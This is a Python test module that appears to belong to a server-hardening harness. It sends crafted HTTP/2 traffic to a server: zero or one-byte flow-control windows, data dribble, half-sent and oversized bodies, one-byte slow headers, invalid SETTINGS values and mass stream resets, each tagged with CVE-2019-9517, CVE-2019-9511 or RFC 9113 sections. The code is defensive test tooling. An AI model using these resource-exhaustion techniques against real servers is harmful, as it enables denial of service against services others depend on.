"""HTTP/2: windows that stay shut, settings, bodies in the making, as many requests as are taken."""

from collections.abc import Callable
from typing import Any

from attack import META, text
from frames import (
    DATA,
    ENABLE_PUSH,
    GOAWAY,
    HEADER_TABLE_SIZE,
    INITIAL_WINDOW_SIZE,
    LARGEST,
    MAX_CONCURRENT_STREAMS,
    MAX_FRAME_SIZE,
    MAX_HEADER_LIST_SIZE,
    STREAMS,
    body,
    frame,
    head,
    reset,
    settings,
    window,
)
from http2 import Http2, bounded, ended, expect, over_tls, sound
from measure import Stopwatch

# -- windows


def shut(attack: Any, connections: int, ask: Callable[[Http2], bytes], more: int, count: int = STREAMS) -> list[Http2]:
    """Requests whose answers have no more than so many bytes of window each."""
    conns = []
    for _ in range(connections):
        conn = Http2(attack, {INITIAL_WINDOW_SIZE: more})
        conn.send(b"".join(ask(conn) for _ in range(count)), 3.0)
        conns.append(conn)
    end = Stopwatch(1.0)
    while not end.over:
        for conn in conns:
            conn.take(0)
        attack.hold(0.02)
    return conns


@over_tls("window-zero-lists", "CVE-2019-9517 class: small questions, long answers", core=True)
def zero_lists(attack: Any) -> None:
    shut(attack, 20, Http2.list_tools, 0)


@over_tls("window-zero-echo", "CVE-2019-9517 class")
def zero_echo(attack: Any) -> None:
    conn = Http2(attack, {INITIAL_WINDOW_SIZE: 0})
    for _ in range(STREAMS):
        conn.call_large(b"x" * 35_000, 1.0)
    attack.hold(0.5)
    conn.send(settings({INITIAL_WINDOW_SIZE: 1 << 20}))
    conn.wait(*list(conn.streams))
    done = sum(stream.answered for stream in conn.streams.values())
    expect(attack, conn.over or done == STREAMS, f"{done} of {STREAMS} answers came")


@over_tls("window-zero-large", "CVE-2019-9517 class: answers beyond all buffers")
def zero_large(attack: Any) -> None:
    for _ in range(4):
        Http2(attack, {INITIAL_WINDOW_SIZE: 0}).call_large(b"x" * 950_000, 2.0)
    attack.hold(0.5)


@over_tls("window-zero-progress", "CVE-2019-9517 class: events that nobody takes")
def zero_progress(attack: Any) -> None:
    def count(conn: Http2) -> bytes:
        meta = text(META | {"progressToken": 1})
        data = attack.request("tools/call", b'{"_meta":%s,"name":"count","arguments":{"to":200}}' % meta)
        number = conn.next()
        return head(number, conn.fields(attack.modern("tools/call", "count"), len(data))) + body(number, data)

    shut(attack, 1, count, 0)


@over_tls("window-byte-lists", "CVE-2019-9511: data dribble")
def byte_lists(attack: Any) -> None:
    shut(attack, 10, Http2.list_tools, 1)


@over_tls("window-dribble", "CVE-2019-9511: data dribble")
def dribble(attack: Any) -> None:
    (conn,) = shut(attack, 1, Http2.list_tools, 0)
    for _ in range(150):
        if not conn.send(b"".join(window(number, 1) for number in conn.streams)):
            break
    conn.send(settings({INITIAL_WINDOW_SIZE: 1 << 20}))
    sound(attack, conn)


@over_tls("window-of-connection-shut", "CVE-2019-9517 class")
def connection_shut(attack: Any) -> None:
    conns = []
    for _ in range(20):
        conn = Http2(attack, wide=False)
        conn.send(b"".join(conn.list_tools() for _ in range(STREAMS)), 3.0)
        conns.append(conn)
    end = Stopwatch(1.0)
    while not end.over:
        for conn in conns:
            conn.take(0)
        attack.hold(0.02)


@over_tls("window-open-unread", "CVE-2019-9517: internal data buffering", core=True)
def unread(attack: Any) -> None:
    for _ in range(20):
        conn = Http2(attack)
        conn.send(b"".join(conn.list_tools() for _ in range(STREAMS)), 1.0, deaf=True)
    attack.hold(1.0)


@over_tls("window-zero-reset", "CVE-2019-9517 class: answers that nobody wants any more")
def zero_reset(attack: Any) -> None:
    (conn,) = shut(attack, 1, Http2.list_tools, 0)
    for _ in range(4):
        conn.send(b"".join(reset(number) for number in list(conn.streams)[-STREAMS:]))
        conn.send(b"".join(conn.list_tools() for _ in range(STREAMS)))
        attack.hold(0.2)
    conn.send(b"".join(reset(number) for number in list(conn.streams)[-STREAMS:]))
    conn.send(settings({INITIAL_WINDOW_SIZE: 1 << 20}))
    sound(attack, conn)


@over_tls("window-zero-listen", "HO-4: subscriptions/listen, and nobody takes the news", core=True)
def zero_listen(attack: Any) -> None:
    def listen(conn: Http2) -> bytes:
        number = conn.next()
        text = attack.request("subscriptions/listen", {"notifications": {"toolsListChanged": True}})
        return head(number, conn.fields(attack.modern("subscriptions/listen"), len(text))) + body(number, text)

    shut(attack, 5, listen, 0)
    change = attack.call("test_trigger_tool_change", b"{}")
    sock = attack.connect()
    for _ in range(30):
        attack.post(change, attack.modern("tools/call", "test_trigger_tool_change"), sock=sock)


@over_tls("window-shrinks", "RFC 9113 6.9.2: windows below zero")
def shrinks(attack: Any) -> None:
    conn = Http2(attack, {INITIAL_WINDOW_SIZE: 1000})
    conn.send(b"".join(conn.list_tools() for _ in range(STREAMS)))
    for number in range(200):
        conn.send(settings({INITIAL_WINDOW_SIZE: number % 2 * 1000}))
    conn.send(settings({INITIAL_WINDOW_SIZE: 0}) + settings({INITIAL_WINDOW_SIZE: 1 << 20}))
    conn.wait(*list(conn.streams))
    done = sum(stream.answered for stream in conn.streams.values())
    expect(attack, conn.over or done == STREAMS, f"{done} of {STREAMS} answers came")


# -- settings of their own


ODD: dict[str, dict[int, int]] = {
    "a table of 4 GiB": {HEADER_TABLE_SIZE: (1 << 32) - 1},
    "frames of 16 MiB": {MAX_FRAME_SIZE: (1 << 24) - 1},
    "no streams": {MAX_CONCURRENT_STREAMS: 0},
    "no fields": {MAX_HEADER_LIST_SIZE: 0},
    "unknown ones": {0xABCD: 7, 0: 1, 0xFFFF: 0xFFFFFFFF},
}


@over_tls("settings-odd", "RFC 9113 6.5.2: a table of 4 GiB, frames of 16 MiB")
def odd_settings(attack: Any) -> None:
    for what, values in ODD.items():
        conn = Http2(attack, values)
        calls = [conn.call("echo", b'{"text":"%s"}' % (b"x" * 1000)) for _ in range(20)]
        conn.send(b"".join(calls) + conn.list_tools())
        conn.wait(*list(conn.streams))
        # The fields of these are in a table, if the server keeps one: their end says enough.
        came = sum(stream.ended for stream in conn.streams.values())
        expect(attack, came == 21, f"{what}: {came} of 21 answers came")


WRONG: dict[str, dict[int, int]] = {
    "push of two": {ENABLE_PUSH: 2},
    "a window too wide": {INITIAL_WINDOW_SIZE: 1 << 31},
    "a frame too small": {MAX_FRAME_SIZE: LARGEST - 1},
    "a frame too large": {MAX_FRAME_SIZE: 1 << 24},
}


@over_tls("settings-wrong", "RFC 9113 6.5.2")
def wrong_settings(attack: Any) -> None:
    for what, values in WRONG.items():
        conn = Http2(attack)
        conn.send(settings(values))
        ended(attack, conn, what)


@over_tls("frame-16m-answer", "RFC 9113 6.5.2: large frames of a long answer")
def large_answer(attack: Any) -> None:
    conn = Http2(attack, {MAX_FRAME_SIZE: (1 << 24) - 1})
    conn.call_large(b"x" * 2_000_000)
    conn.wait(1)
    expect(attack, conn.streams[1].answered, f"to a long call: {conn.streams[1]}")


# -- bodies


@over_tls("bodies-half", "HO-6: bodies in the making", core=True)
def halves(attack: Any) -> None:
    for _ in range(12):
        conn = Http2(attack)
        for _ in range(STREAMS):
            conn.send(conn.call_head(4_000_000) + body(conn.number, b" " * 2500, end=False), 1.0)
    attack.hold(0.5)


@over_tls("bodies-promised", "HO-6: bodies in the making")
def promised(attack: Any) -> None:
    for _ in range(40):
        conn = Http2(attack)
        conn.send(b"".join(conn.call_head(4_194_304) for _ in range(STREAMS)), 1.0)
    attack.hold(0.5)


@over_tls("bodies-beyond-the-window", "RFC 9113 6.9.1")
def beyond(attack: Any) -> None:
    conn = Http2(attack)
    # Without a look at what the server allows.
    conn.send(conn.call_head(4_000_000) + body(conn.number, b" " * 3_900_000, end=False), 3.0, deaf=True)
    sound(attack, conn)


@over_tls("bodies-interleaved", "CVE class: frames of many streams in turn")
def interleaved(attack: Any) -> None:
    conn = Http2(attack)
    # One is left for the call behind them.
    conn.send(b"".join(conn.call_head(3000) for _ in range(STREAMS - 1)))
    for _ in range(60):
        conn.send(b"".join(frame(DATA, 0, number, b" " * 20) for number in range(1, conn.number + 1, 2)))
    sound(attack, conn)


@over_tls("one-byte", "CVE class: slow heads")
def one_byte(attack: Any) -> None:
    conn = Http2(attack, start=False)
    whole = conn.opening() + conn.call()
    for n in range(len(whole)):
        conn.send(whole[n : n + 1], deaf=True)
    conn.wait(1)
    expect(attack, conn.streams[1].answered, "not answered")


@over_tls("piped", "CVE class: as many as are taken")
def piped(attack: Any) -> None:
    conn = Http2(attack)
    count = 1000
    for _ in range(count):
        while sum(not stream.done for stream in conn.streams.values()) >= STREAMS and not conn.over:
            conn.take(1.0)
        conn.send(conn.call())
    conn.wait(*list(conn.streams))
    others = [str(stream) for stream in conn.streams.values() if not stream.answered]
    expect(attack, not others, f"{len(others)} of {count} were not answered: {others[:1]}")


@over_tls("piped-unread", "CVE class: pipelining, stalled reader")
def piped_unread(attack: Any) -> None:
    conn = Http2(attack)
    conn.send(b"".join(conn.list_tools() for _ in range(600)), 2.0, deaf=True)
    attack.hold(0.5)
    sound(attack, conn)


@over_tls("calls-hung-up", "HO-6: calls whose client hung up")
def hung_up(attack: Any) -> None:
    for _ in range(20):
        conn = Http2(attack)
        conn.send(b"".join(conn.call("slow", b'{"ms":5000}') for _ in range(STREAMS)))
        conn.sock.close(reset=True)
    bounded(attack)


@over_tls("goaway-and-on", "RFC 9113 6.8")
def goaway_and_on(attack: Any) -> None:
    conn = Http2(attack)
    conn.send(conn.call("slow", b'{"ms":200}') + frame(GOAWAY, 0, 0, b"\0" * 8 + b"d" * 10_000))
    for _ in range(STREAMS):
        conn.send(conn.call())
    conn.wait(1)
    sound(attack, conn)
